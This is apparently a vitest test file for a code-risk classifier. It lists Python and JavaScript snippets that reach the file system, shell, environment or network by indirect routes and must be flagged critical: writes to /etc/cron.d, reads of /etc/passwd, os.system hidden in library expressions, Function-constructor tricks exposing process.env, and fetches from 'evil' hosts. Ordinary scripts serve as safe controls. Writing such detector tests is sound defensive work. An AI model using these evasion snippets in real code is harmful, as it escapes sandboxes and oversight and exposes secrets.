import { expect, it } from "vitest";
import { classifyCode } from "./classify-code.ts";

/** What a library, a format or an object that looks harmless is made to do. */
const roundAboutPython = [
  "from scipy.io import savemat\nsavemat('/etc/cron.d/x', {})",
  "from scipy.io import wavfile\nwavfile.write('/etc/x', 8000, a)",
  "import numpy as np\nnp.arange(3).dump('/etc/x')",
  "import pandas as pd\npd.DataFrame({'a': ['x']}).to_string('/etc/x')",
  "import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@pd.io.common.os.system('id') or a == 1\")",
  "import sympy\nsympy.simplify(\"__import__('os').system('id')\")",
  "import typing\nclass A:\n    x: \"__import__('os').system('id')\"\ntyping.get_type_hints(A)",
  "import pydantic\npydantic.TypeAdapter(pydantic.ImportString).validate_python('o' + 's.sys' + 'tem')('id')",
  "import seaborn\nseaborn.load_dataset('tips')",
  "from sklearn.datasets import fetch_openml\nfetch_openml('x')",
  "import asyncio\nasync def f():\n    await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=('1.2.3.4', 53))\nasyncio.run(f())",
  "import io\nprint(io.open_code('/etc/passwd').read())",
  "import pandas as pd\npd.ExcelFile('http://evil/x.xlsx')",
  "import sympy\nsympy.preview('x', filename='/etc/x')",
  "from random import _os as o\no.listdir('/')",
  "import random\nmatch random:\n    case object(_os=o):\n        o.listdir('/')",
  "g = (x for x in [])\ng.gi_frame.f_builtins['__import__']('os').system('id')",
  "import string, json\nf = string.Formatter().get_field('0.__globals__[codecs]', (json.dumps,), {})[0]",
  "import random\nprint('{m._os.environ}'.format(m=random))",
  "import random\nprint(('{m' + '._os.environ}').format(m=random))",
  "import contextlib\nwith contextlib.chdir('/etc'):\n    print(open('passwd').read())",
  "ｏｐｅｎ('/etc/passwd', 'w')",
  "# -*- coding: unicode_escape -*-\n# \\x0aimport os\\x0aos.system('id')\nprint(1)",
  "import random\nrandom. \\\n _os.listdir('/')",
  "from pathlib import Path\nlist(map(Path.read_text, [Path('/etc/passwd')]))",
  "from pathlib import Path\nfor r, d, f in Path('/').walk(): print(r)",
  "from pathlib import Path\nPath('/etc/passwd').copy('x')",
  "from functools import singledispatch\n@singledispatch\ndef f(x): pass\n@f.register\ndef _(x: \"__import__('os').system('id')\"): pass",
  "import statsmodels.formula.api as smf\nsmf.ols(\"y ~ __import__('os').system('id')\", d).fit()",
  "import pandas as pd\npd.DataFrame({'a': [1]}).apply('to_pickle', args=('/etc/x',))",
  "import pandas as pd\npd.show_versions(as_json='/etc/x')",
  "import matplotlib.pyplot as plt\nplt.style.use('http://evil/x.mplstyle')",
  "import matplotlib.pyplot as plt\nplt.rcParams['text.usetex'] = True",
  "import matplotlib.pyplot as plt\nplt.switch_backend('module://evil')",
  "import pandas as pd\npd.Series([1]).plot(backend='evil')",
  "import polars as pl\npl.LazyFrame({}).sink_csv('/etc/x')",
  "import numpy as np\nprint(np.fromregex('/etc/passwd', '(.)', [('a', 'S1')]))",
  "import numpy as np\nf = np.save\nf('/etc/x', [1])",
  "import base64, sys\nsys.argv = ['x', '-e', '/etc/passwd']\nbase64.main()",
  "import pytz\npytz.open_resource('x')",
  "import dateutil\ndateutil.tz.tzfile('/etc/passwd')",
  "import typing\nA = typing.ForwardRef('print(1)')",
  "from dataclasses import inspect\nprint(inspect.stack())",
  "class A: pass\nA.mro()[1]",
  "def dump(x): pass\nimport numpy as np\nnp.arange(3).dump('/etc/x')",
  "import pandas as pd\nimport json\ndf.to_csv(index=False, path_or_buf='/etc/x')",
  "df.to_csv(index=False, **{'path_or_buf': '/etc/x'})",
  "import asyncio\nasync def f():\n    await asyncio.get_running_loop().getaddrinfo('secret.evil.example', 80)\nasyncio.run(f())",
  "import enum\nenum.bltns.open('/etc/passwd')",
  "help('antigravity')",
  "from numpy import *",
  "import seaborn as sns\nsns.load_dataset('tips')",
  "import plotly.express as px\npx.bar([1]).write_html('/etc/x')",
  "import networkx as nx\nnx.nx_agraph.to_agraph(g)",
  "import json\njson.dump({}, open('/etc/x', 'w'))",
  "import pandas as pd\nx = pd.read_csv\nx('http://evil')",
  "import numpy as np\nimport json\njson = np.arange(3)\njson.dump('/etc/x')",
  "import numpy as np\nimport json\nfor json in [np.arange(3)]:\n    json.dump('/etc/x')",
  "import numpy as np\nimport json\n(lambda json: json.dump('/etc/x'))(np.arange(3))",
  "import numpy as np\nimport json\ndef f(json):\n    json.dump('/etc/x')\nf(np.arange(3))",
];

/** As models write them. */
const ordinaryPython = [
  "import pandas as pd\ndf = pd.read_csv('sales.csv', parse_dates=['date'])\ndf['month'] = df['date'].dt.to_period('M')\nmonthly = df.groupby(['region', 'month'])['amount'].agg(['sum', 'mean']).reset_index()\nprint(monthly.to_string(index=False))\nmonthly.to_csv('monthly.csv', index=False)",
  "import pandas as pd\ndf = pd.read_excel('book.xlsx', sheet_name='Q1')\nbig = df.query('amount > 100 and region == \"EU\"').sort_values('amount', ascending=False).head(10)\nprint(big.to_markdown())",
  "import numpy as np\nimport pandas as pd\nrng = np.random.default_rng(42)\nx = rng.normal(0, 1, 1000)\nprint(np.percentile(x, [5, 50, 95]), x.mean(), x.std())\ndf = pd.DataFrame({'x': x})\nprint(df.describe())",
  "import matplotlib.pyplot as plt\nfig, ax = plt.subplots(figsize=(10, 6))\nax.plot([1, 2], [3, 4], label='a')\nax.set_title('T')\nax.legend()\nplt.tight_layout()\nplt.savefig('out.png', dpi=150)",
  "from sklearn.model_selection import train_test_split\nfrom sklearn.linear_model import LinearRegression\nfrom sklearn.metrics import r2_score, mean_squared_error\nX_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)\nm = LinearRegression().fit(X_train, y_train)\nprint(r2_score(y_test, m.predict(X_test)))",
  "import json\nfrom collections import Counter, defaultdict\nwith open('log.jsonl') as f:\n    rows = [json.loads(line) for line in f if line.strip()]\ncounts = Counter(r['level'] for r in rows)\nby = defaultdict(list)\nfor r in rows:\n    by[r.get('host', '?')].append(r)\nfor level, n in counts.most_common(3):\n    print(f'{level:<10}{n:>5,}')",
  "import re\nfrom datetime import datetime, timedelta\npattern = re.compile(r'(\\d{4})-(\\d{2})')\nm = pattern.search('2026-11')\nprint(m.group(1), datetime(2026, 11, 1) + timedelta(days=3), datetime.now().isoformat())\nprint('{} of {:>5}'.format(1, 2))",
  "from dataclasses import dataclass, field, asdict\n@dataclass\nclass Item:\n    name: str\n    tags: list[str] = field(default_factory=list)\n    def total(self) -> int:\n        return len(self.tags)\nprint(asdict(Item('a')), Item('b').total())",
  "import asyncio\nasync def one(n):\n    await asyncio.sleep(0)\n    return n\nasync def main():\n    return await asyncio.gather(*[one(n) for n in range(3)])\nprint(asyncio.run(main()))",
  "from pathlib import Path\nimport csv\nwith open('a.csv', newline='') as f:\n    rows = list(csv.DictReader(f))\nPath('out').mkdir(exist_ok=True)\nwith open('out/b.csv', 'w', newline='') as f:\n    w = csv.DictWriter(f, fieldnames=['a'])\n    w.writeheader()\n    w.writerows(rows)",
  "import statistics, math, random\nrandom.seed(1)\nxs = [random.gauss(0, 1) for _ in range(100)]\nprint(statistics.mean(xs), math.sqrt(2), round(statistics.stdev(xs), 3))",
  "import seaborn as sns\nimport matplotlib.pyplot as plt\nsns.set_theme()\nsns.heatmap(df.corr(numeric_only=True), annot=True)\nplt.savefig('corr.png')",
  "from scipy import stats\nt, p = stats.ttest_ind([1, 2, 3], [2, 3, 4])\nprint(p)",
  "import networkx as nx\ng = nx.DiGraph()\ng.add_edges_from([(1, 2), (2, 3)])\nprint(nx.shortest_path(g, 1, 3), list(nx.topological_sort(g)))",
  "import polars as pl\ndf = pl.read_csv('a.csv')\nprint(df.group_by('k').agg(pl.col('v').sum()).sort('k'))",
  "import itertools, functools, operator\nprint(functools.reduce(operator.mul, [1, 2, 3]), list(itertools.combinations('abc', 2)))",
  "from enum import Enum\nclass Color(Enum):\n    RED = 1\nmatch Color.RED:\n    case Color.RED:\n        print('r')\n    case _:\n        print('o')",
  "try:\n    x = int('a')\nexcept ValueError as e:\n    print(f'bad: {e}')\nfinally:\n    print('done')",
  "df['price'] = df['price'].str.replace('$', '').astype(float)\ndf = df.dropna(subset=['price']).drop_duplicates()\nprint(df.pivot_table(index='a', columns='b', values='price', aggfunc='sum').fillna(0))",
  "import hashlib, base64, uuid\nprint(hashlib.sha256(b'a').hexdigest(), base64.b64encode(b'a').decode(), uuid.uuid4())",
];

const roundAboutJavaScript = [
  'const k = ["con", "structor"].join(""); const F = (() => {})[k]; F("return process.env")();',
  'import { template } from "lodash";\ntemplate("<% process.exit(1) %>")();',
  'import { template } from "lodash";\nconst t = template("<% x %>"); t();',
  'import _ from "lodash"; const F = _.get(() => {}, ["con", "structor"].join("")); const g = F("return 1"); g();',
  'const k = ["con", "structor"].join(""); const { [k]: F } = () => {}; const g = F("return 1"); g();',
  'const k = "CONSTRUCTOR".toLowerCase(); const f = () => {}; const F = f[k]; const g = F("return 1"); g();',
  'const k = ["con", "structor"].join(""); let F = () => 1; F = F[k]; F("return 1");',
  'const k = ["con", "structor"].join(""); const F = () => 1; ((F) => F("return 1"))(F[k]);',
  'const k = ["con", "structor"].join(""); const f = () => 1; const o = { run: f[k] }; o.run("return 1");',
  'const k = ["con", "structor"].join(""); const f = () => 1; const [g] = ["return 1"].map(f[k]); [1].map(g);',
  'const k = ["con", "structor"].join(""); const f = () => 1; const F = f[k]; F`return 1`;',
  'const k = ["con", "structor"].join(""); const f = () => 1; const F = f[k]; class A extends F {}\nnew A("return 1");',
  'const k = ["con", "structor"].join(""); const f = () => 1; const F = f[k]; F("return 1")\n{ }',
  'const k = ["con", "structor"].join(""); const f = () => 1; f[k].call(null, "return 1");',
  `const k = ["con", "structor"].join(""); const f = () => 1; const F = f[k]; const o = { toString: F }; \`\${o}\`;`,
  'const g = (function () { return this; })(); g[["pro", "cess"].join("")].env.HOME;',
  "const g = (function () { return this; })(); const { env } = g;",
  "import.meta.env.SECRET",
  "Error.prepareStackTrace = (_, s) => s; new Error().stack[0].getThis()",
  'import Papa from "papaparse"; Papa.parse("http://evil", { download: true });',
  "document.cookie",
  'const f = () => {}; f.__lookupGetter__("x")',
  'import { evaluate } from "mathjs"; evaluate("1+1")',
  'const k = ["con","structor"].join(""); const f = () => 1; const G = f[k]; setTimeout(G, 1, "return 1")',
  'const k = ["con","structor"].join(""); const f = () => 1; for (const F of [f[k]]) F("return 1");',
  'const k = ["con","structor"].join(""); const f = () => 1; try { throw f[k]; } catch (F) { F("return 1"); }',
  'const k = ["con","structor"].join(""); const f = () => 1; Promise.resolve(f[k]).then((F) => F("x"));',
];

const ordinaryJavaScript = [
  `const rows = [{ region: "EU", amount: 3 }];\nconst totals = {};\nfor (const row of rows) { totals[row.region] = (totals[row.region] ?? 0) + row.amount; }\nfor (const [region, total] of Object.entries(totals)) console.log(\`\${region}: \${total.toFixed(2)} (EUR)\`);\nreturn totals;`,
  "const groups = {};\nfor (const item of items) { (groups[item.kind] ||= []).push(item); }\nreturn Object.keys(groups).sort().map((kind) => ({ kind, count: groups[kind].length }));",
  "for (let i = 0; i < rows.length; i++) { const row = rows[i]; console.log(row.name, rows[i + 1]?.name); }",
  'const byId = new Map(users.map((user) => [user.id, user]));\nconst columns = ["a", "b"];\nconst lines = rows.map((row) => columns.map((column) => JSON.stringify(row[column])).join(","));\nreturn lines.join("\\n");',
  "function median(values) { const sorted = [...values].sort((a, b) => a - b); const middle = Math.floor(sorted.length / 2); return sorted[middle]; }\nreturn median([3, 1, 2]);",
  'import { groupBy, sumBy } from "lodash";\nconst grouped = groupBy(rows, "region");\nreturn Object.entries(grouped).map(([region, list]) => ({ region, total: sumBy(list, "amount") }));',
  "class Stack { #items = []; push(x) { this.#items.push(x); } get size() { return this.#items.length; } }\nconst s = new Stack(); s.push(1); return s.size;",
  "const counts = text.toLowerCase().split(/\\W+/).reduce((acc, word) => { acc[word] = (acc[word] || 0) + 1; return acc; }, {});\nconst top = Object.entries(counts).sort((a, b) => b[1] - a[1]).slice(0, 5);\nreturn top;",
  "const updated = { ...state, [key]: value };\nreturn JSON.stringify(updated, null, 2);",
  'const parse = (line) => { const [date, amount] = line.split(","); return { date: new Date(date), amount: Number(amount) }; };\nconst rows = lines.map(parse).filter(Boolean);\nconst months = ["Jan", "Feb"];\nreturn rows.map((row) => months[row.date.getMonth()]);',
  "async function main() { const results = await Promise.all(ids.map(async (id) => ({ id, name: names[id] }))); return results; }\nreturn await main();",
  "const matrix = Array.from({ length: 3 }, (_, i) => Array.from({ length: 3 }, (_, j) => i * j));\nlet sum = 0;\nfor (let i = 0; i < 3; i++) for (let j = 0; j < 3; j++) sum += matrix[i][j];\nreturn sum;",
  'try { const data = JSON.parse(text); return data.items?.[0]?.name ?? "none"; } catch (error) { return String(error.message); }',
  "function retry(fn, times) { for (let n = 0; n < times; n += 1) { try { return fn(); } catch {} } }\nreturn retry(() => 1, 3);",
  `const seen = new Set();\nconst unique = list.filter((item) => { const key = \`\${item.a}|\${item.b}\`; if (seen.has(key)) return false; seen.add(key); return true; });\nreturn unique;`,
  "interface Row { name: string; amount: number }\nconst totals: Record<string, number> = {};\nfor (const row of rows as Row[]) totals[row.name] = (totals[row.name] ?? 0) + row.amount;\nconsole.log(totals);",
];

it.each(roundAboutPython)("Python that gets there by another way is critical (case 266): %s", (code) => {
  expect(classifyCode(code, "python").risk).toBe("critical");
});

it.each(ordinaryPython)("an ordinary Python script stays safe (case 266): %s", (code) => {
  expect(classifyCode(code, "python")).toEqual({ risk: "safe", reasons: [] });
});

it.each(roundAboutJavaScript)("JavaScript that gets there by another way is critical (case 266): %s", (code) => {
  expect(classifyCode(code, "javascript").risk).toBe("critical");
});

it.each(ordinaryJavaScript)("an ordinary JavaScript script stays safe (case 266): %s", (code) => {
  const language = code.startsWith("interface") ? "typescript" : "javascript";
  expect(classifyCode(code, language)).toEqual({ risk: "safe", reasons: [] });
});
